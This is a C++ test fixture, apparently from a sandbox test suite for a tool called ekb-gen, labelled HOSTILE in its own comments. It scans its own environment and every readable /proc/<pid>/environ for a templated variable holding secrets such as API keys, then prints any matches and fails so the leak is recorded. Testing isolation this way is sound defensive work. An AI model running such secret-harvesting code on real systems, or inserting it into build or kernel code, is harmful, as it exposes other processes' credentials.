// HOSTILE: while ekb-gen runs the kernel's C++, looks for ekb's secrets: its own
// environment and every /proc/<pid>/environ it can read (ekb's own would carry API keys).
// It prints what it finds for the variable @VAR@ and fails, so its output reaches the
// record.
#include <ekb/kernel.h>
#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "algorithm.h"

extern char **environ;

EKB_KERNEL {
    task::Algorithm a;
    const std::string var = std::string("@VAR@") + "=";
    int readable = 0, found = 0;
    for (char **e = environ; *e; e++) {
        if (std::strncmp(*e, var.c_str(), var.size()) == 0) {
            std::fprintf(stderr, "FOUND in own environment: %s\n", *e);
            found++;
        }
    }
    if (DIR *d = ::opendir("/proc")) {
        while (dirent *e = ::readdir(d)) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
            std::string path = std::string("/proc/") + e->d_name + "/environ";
            int fd = ::open(path.c_str(), O_RDONLY);
            if (fd < 0) continue;
            std::string all;
            char buf[4096];
            ssize_t n;
            while ((n = ::read(fd, buf, sizeof(buf))) > 0) all.append(buf, static_cast<size_t>(n));
            ::close(fd);
            readable++;
            for (size_t p = 0; p < all.size();) {
                size_t end = all.find('\0', p);
                if (end == std::string::npos) end = all.size();
                if (all.compare(p, var.size(), var) == 0) {
                    std::fprintf(stderr, "FOUND in %s: %s\n", path.c_str(), all.substr(p, end - p).c_str());
                    found++;
                }
                p = end + 1;
            }
        }
        ::closedir(d);
    }
    std::fprintf(stderr, "scanned: %d readable environ files, %d found\n", readable, found);
    std::fflush(stderr);
    _exit(2);
    return a.kernel();
}
